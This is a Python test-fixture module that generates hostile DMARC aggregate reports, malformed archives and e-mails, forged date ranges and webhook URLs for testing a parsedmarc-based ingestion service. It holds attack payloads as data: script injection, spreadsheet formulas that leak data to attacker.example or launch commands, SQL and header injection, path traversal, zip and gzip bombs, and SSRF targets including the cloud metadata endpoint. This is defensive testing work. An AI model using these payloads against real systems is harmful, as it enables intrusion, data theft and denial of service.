"""The hostile corpus: what anyone on the internet can mail to a customer's rua address.

Every function here is deterministic and returns bytes or values, so the tests, the end-to-end
Maildir test and RELIABILITY.md's counts all speak of the same cases:

* ``FIELD_PAYLOADS``: hostile values for every report field parsedmarc keeps (markup, script,
  spreadsheet formulas, SQL, template syntax, control and bidi characters, very long text);
* ``report_xml(**fields)``: a well-formed RFC 7489 report with any field replaced;
* ``archive_shapes()`` / ``mime_shapes()``: archives and e-mails as no mail system makes them
  (encrypted and unsupported zip members, nesting, truncation, bombs, MIME depth and width);
* ``date_cases()``: report date ranges, the forged ones and the ones a real receiver sends;
* ``WEBHOOK_TARGETS``: where a tenant might point its webhook to reach the hosting network.
"""

from __future__ import annotations

import base64
import datetime as dt
import gzip
import io
import struct
import zipfile
from xml.sax.saxutils import escape

# -- field values ------------------------------------------------------------------------------

SCRIPT = "<script>document.title='pwned'</script>"
FIELD_PAYLOADS: dict[str, str] = {
    "script": SCRIPT,
    "img-onerror": '"><img src=x onerror="document.title=\'pwned\'">',
    "javascript-url": "javascript:document.title='pwned'",
    "formula-hyperlink": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "sql": "x'); DROP TABLE telemetry_events; --",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "bidi": "safe\u202egpj.exe",
    "control": "bell\x07back\x08esc\x1b[31m",
    "header-injection": "x\r\nBcc: victim@example.com",
    "long": "A" * 20_000,
    "path": "../../../etc/passwd",
    "unicode": "Ünïcødé 報告 🚀",
}

# The report's fields, as parsedmarc keeps them, and how each appears in the XML below.
FIELDS = (
    "org_name",
    "email",
    "extra_contact_info",
    "report_id",
    "domain",
    "p",
    "sp",
    "source_ip",
    "disposition",
    "reason_type",
    "reason_comment",
    "header_from",
    "envelope_from",
    "envelope_to",
    "dkim_domain",
    "dkim_selector",
    "dkim_result",
    "spf_domain",
    "spf_scope",
    "spf_result",
)

DEFAULT_BEGIN = int(dt.datetime(2026, 11, 2, tzinfo=dt.UTC).timestamp())


def report_xml(
    records: int = 1,
    begin: int | str = DEFAULT_BEGIN,
    end: int | str | None = None,
    count: int | str = 3,
    **fields: str,
) -> bytes:
    """A well-formed aggregate report whose fields are ``fields`` (escaped as XML text, so the
    hostile value is what a parser reads back), the rest ordinary."""
    values = {
        "org_name": "Hostile Reporter",
        "email": "dmarc@reporter.example",
        "extra_contact_info": "https://reporter.example/dmarc",
        "report_id": "hostile-1",
        "domain": "victim.example",
        "p": "none",
        "sp": "none",
        "source_ip": "192.0.2.10",
        "disposition": "none",
        "reason_type": "forwarded",
        "reason_comment": "seen",
        "header_from": "victim.example",
        "envelope_from": "victim.example",
        "envelope_to": "receiver.example",
        "dkim_domain": "victim.example",
        "dkim_selector": "s1",
        "dkim_result": "pass",
        "spf_domain": "victim.example",
        "spf_scope": "mfrom",
        "spf_result": "pass",
    }
    unknown = set(fields) - set(values)
    if unknown:
        raise TypeError(f"not report fields: {sorted(unknown)}")
    values.update(fields)
    v = {name: escape(str(value)) for name, value in values.items()}
    end = end if end is not None else (int(begin) + 86_399 if str(begin).lstrip("-").isdigit() else begin)
    record = (
        f"<record><row><source_ip>{v['source_ip']}</source_ip><count>{escape(str(count))}</count>"
        f"<policy_evaluated><disposition>{v['disposition']}</disposition><dkim>pass</dkim><spf>pass</spf>"
        f"<reason><type>{v['reason_type']}</type><comment>{v['reason_comment']}</comment></reason>"
        "</policy_evaluated></row>"
        f"<identifiers><header_from>{v['header_from']}</header_from>"
        f"<envelope_from>{v['envelope_from']}</envelope_from><envelope_to>{v['envelope_to']}</envelope_to>"
        "</identifiers><auth_results>"
        f"<dkim><domain>{v['dkim_domain']}</domain><selector>{v['dkim_selector']}</selector>"
        f"<result>{v['dkim_result']}</result></dkim>"
        f"<spf><domain>{v['spf_domain']}</domain><scope>{v['spf_scope']}</scope>"
        f"<result>{v['spf_result']}</result></spf></auth_results></record>"
    )
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<feedback><version>1.0</version><report_metadata>'
        f"<org_name>{v['org_name']}</org_name><email>{v['email']}</email>"
        f"<extra_contact_info>{v['extra_contact_info']}</extra_contact_info>"
        f"<report_id>{v['report_id']}</report_id>"
        f"<date_range><begin>{escape(str(begin))}</begin><end>{escape(str(end))}</end></date_range>"
        "</report_metadata>"
        f"<policy_published><domain>{v['domain']}</domain><adkim>r</adkim><aspf>r</aspf>"
        f"<p>{v['p']}</p><sp>{v['sp']}</sp><pct>100</pct></policy_published>" + record * records + "</feedback>\n"
    )
    return text.encode("utf-8", errors="surrogateescape")


def field_cases(begin: int = DEFAULT_BEGIN) -> dict[str, bytes]:
    """One report per (field, payload): every field parsedmarc keeps, every hostile value."""
    cases = {}
    for field in FIELDS:
        for name, payload in FIELD_PAYLOADS.items():
            values = {"report_id": f"hostile-{field}-{name}", field: payload}
            cases[f"field-{field}-{name}.xml"] = report_xml(begin=begin, **values)
    return cases


# -- archives ------------------------------------------------------------------------------------


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return packed.getvalue()


def _patch_zip(data: bytes, flag_bits: int = 0, method: int | None = None) -> bytes:
    """Set general-purpose flag bits (1: encrypted) or the compression method of every member,
    in the local headers and the central directory alike: what zipfile would read from a zip
    made by another tool."""
    out = bytearray(data)
    for signature, flags_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        start = 0
        while (at := out.find(signature, start)) >= 0:
            flags = struct.unpack_from("<H", out, at + flags_at)[0] | flag_bits
            struct.pack_into("<H", out, at + flags_at, flags)
            if method is not None:
                struct.pack_into("<H", out, at + method_at, method)
            start = at + 4
    return bytes(out)


def archive_shapes(xml: bytes | None = None) -> dict[str, bytes]:
    """Archives no mail system makes but anyone can send: name -> bytes."""
    xml = xml or report_xml(report_id="archive-shape")
    good_zip, good_gz = zip_of({"report.xml": xml}), gzip.compress(xml, mtime=0)
    return {
        "encrypted-member.zip": _patch_zip(good_zip, flag_bits=0x1),
        "unsupported-method.zip": _patch_zip(good_zip, method=99),
        "empty.zip": zip_of({}),
        "directory-only.zip": zip_of({"reports/": b""}),
        "many-members.zip": zip_of({f"r{i}.xml": xml for i in range(300)}),
        "nested.zip": zip_of({"inner.zip": good_zip}),
        "zip-in-gzip.xml.gz": gzip.compress(good_zip, mtime=0),
        "gzip-in-gzip.xml.gz": gzip.compress(good_gz, mtime=0),
        "gzip-in-zip.zip": zip_of({"report.xml.gz": good_gz}),
        "traversal-name.zip": zip_of({"../../../../tmp/evil.xml": xml}),
        "bad-crc.zip": good_zip[:40] + bytes(b ^ 0xFF for b in good_zip[40:60]) + good_zip[60:],
        "truncated.zip": good_zip[: len(good_zip) // 2],
        "truncated.xml.gz": good_gz[: len(good_gz) // 2],
        "trailing-garbage.xml.gz": good_gz + b"\x00garbage after the stream",
        "header-only.xml.gz": good_gz[:10],
        "gzip-bomb.xml.gz": gzip.compress(b"<feedback>" + b" " * (40 * 1024 * 1024), compresslevel=9),
        "zip-bomb.zip": zip_of({"report.xml": b"<feedback>" + b" " * (40 * 1024 * 1024)}),
        "binary-garbage.xml": bytes(range(256)) * 8,
        "utf16-report.xml": xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
        "nul-bytes.xml": xml.replace(b"<report_id>", b"<report_id>\x00"),
        "not-xml.xml": b"<feedback><report_metadata><org_name>unclosed",
        "deep-xml.xml": b"<feedback>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</feedback>",
        "records-spelled-otherwise.xml": xml.replace(b"<record>", b"<record\t>").replace(b"</record>", b"</record\n>"),
    }


# -- e-mails -------------------------------------------------------------------------------------

HEAD = (
    "From: dmarc@reporter.example\nTo: rua@victim.example\nSubject: Report Domain: victim.example\n"
    "Date: Mon, 02 Nov 2026 00:00:00 +0000\nMessage-ID: <hostile@reporter.example>\nMIME-Version: 1.0\n"
)


def attachment(data: bytes, filename: str = "report.xml.gz", content_type: str = "application/gzip") -> str:
    return (
        f'Content-Type: {content_type}; name="{filename}"\nContent-Transfer-Encoding: base64\n'
        f'Content-Disposition: attachment; filename="{filename}"\n\n{base64.encodebytes(data).decode()}'
    )


def multipart(*parts: str, boundary: str = "b1") -> str:
    return (
        f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n'
        + "".join(f"--{boundary}\n{p}\n" for p in parts)
        + f"--{boundary}--\n"
    )


def email_of(*parts: str) -> bytes:
    return (HEAD + (parts[0] if len(parts) == 1 else multipart(*parts))).encode("utf-8", errors="surrogateescape")


def nested_multipart(depth: int, leaf: str) -> str:
    body = leaf
    for level in range(depth):
        body = multipart(body, boundary=f"n{level}")
    return body


def nested_rfc822(depth: int, leaf: str) -> str:
    body = HEAD + leaf
    for _ in range(depth):
        body = HEAD + "Content-Type: message/rfc822\n\n" + body
    return body


def mime_shapes(xml: bytes | None = None) -> dict[str, bytes]:
    """E-mails as no mail system makes them: name -> bytes. Each one's report (when there is one)
    is well formed: only its packaging is hostile."""
    xml = xml or report_xml(report_id="mime-shape")
    gz = gzip.compress(xml, mtime=0)
    good = attachment(gz)
    shapes = archive_shapes(xml)
    return {
        "encrypted-zip.eml": email_of(attachment(shapes["encrypted-member.zip"], "report.zip", "application/zip")),
        "unsupported-zip.eml": email_of(attachment(shapes["unsupported-method.zip"], "report.zip", "application/zip")),
        "truncated-gzip.eml": email_of(attachment(shapes["truncated.xml.gz"])),
        "bomb.eml": email_of(attachment(shapes["gzip-bomb.xml.gz"])),
        "deep-multipart.eml": email_of(nested_multipart(60, good)),
        "very-deep-multipart.eml": email_of(nested_multipart(1_500, good)),
        "deep-rfc822.eml": (HEAD + "Content-Type: message/rfc822\n\n" + nested_rfc822(60, good)).encode(),
        "wide.eml": email_of(*([attachment(b"x" * 10, f"f{i}.txt", "text/plain") for i in range(2_000)] + [good])),
        "bad-base64.eml": email_of(
            'Content-Type: application/gzip; name="r.xml.gz"\nContent-Transfer-Encoding: base64\n\n!!!not base64@@@\n'
        ),
        "unknown-charset.eml": email_of('Content-Type: text/plain; charset="x-no-such-charset"\n\n\xff\xfe text\n'),
        "no-boundary.eml": email_of("Content-Type: multipart/mixed\n\n--b1\n" + good + "\n--b1--\n"),
        "rfc2231-garbage.eml": email_of(
            "Content-Type: application/gzip; name*=utf-8''%ff%fe%00\nContent-Transfer-Encoding: base64\n"
            "Content-Disposition: attachment; filename*=bogus''%zz%\n\n" + base64.encodebytes(gz).decode()
        ),
        "bogus-encoded-word.eml": (
            HEAD.replace("Subject: Report Domain: victim.example", "Subject: =?x-bogus?Q?abc?= =?utf-8?B?!!!?=") + good
        ).encode(),
        "long-header.eml": (HEAD + "X-Long: " + "a" * 200_000 + "\n" + good).encode(),
        "uuencode.eml": email_of(
            "Content-Type: application/gzip\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644\n!!!\n"
        ),
        "binary-body.eml": HEAD.encode() + b"\n" + bytes(range(256)) * 64,
        "header-only.eml": HEAD.encode(),
        "report-plus-encrypted.eml": email_of(
            good, attachment(shapes["encrypted-member.zip"], "other.zip", "application/zip")
        ),
    }


# -- dates ---------------------------------------------------------------------------------------


def date_cases(now: dt.datetime) -> dict[str, tuple[int, int, bool]]:
    """name -> (begin, end, accepted?) around ``now``: what a report may claim about its period."""
    day = 86_400
    today = int(now.timestamp()) // day * day
    return {
        "yesterday": (today - day, today - 1, True),
        "today-so-far": (today, today + day - 1, True),
        "a-week-long": (today - 7 * day, today - 1, True),
        "tomorrow-begins": (today + 2 * day, today + 3 * day - 1, False),
        "year-2099": (4_070_908_800, 4_070_995_199, False),
        "ends-before-it-begins": (today - day, today - 2 * day, False),
        "a-year-long": (today - 365 * day, today - 1, False),
        "last-year": (today - 300 * day, today - 299 * day - 1, True),  # old, but not a forged present
        "before-the-first-day": (0, day - 1, False),  # 1970: before PIPELINE_FIRST_DAY (2012-01-01)
    }


# -- webhook targets -----------------------------------------------------------------------------

WEBHOOK_TARGETS = {
    "loopback": "https://127.0.0.1/hook",
    "loopback-v6": "https://[::1]/hook",
    "loopback-name": "https://localhost/hook",
    "private-10": "https://10.0.0.5/hook",
    "private-192": "https://192.168.1.1/hook",
    "private-172": "https://172.16.3.4/hook",
    "link-local": "https://169.254.10.10/hook",
    "metadata": "https://169.254.169.254/latest/meta-data/",
    "metadata-v6": "https://[fd00:ec2::254]/latest/meta-data/",
    "unspecified": "https://0.0.0.0/hook",
    "decimal-loopback": "https://2130706433/hook",
    "mapped-v4": "https://[::ffff:127.0.0.1]/hook",
    "plain-http": "http://hooks.example.com/hook",
    "not-http": "file:///etc/passwd",
    "userinfo-trick": "https://hooks.example.com@127.0.0.1/hook",
}
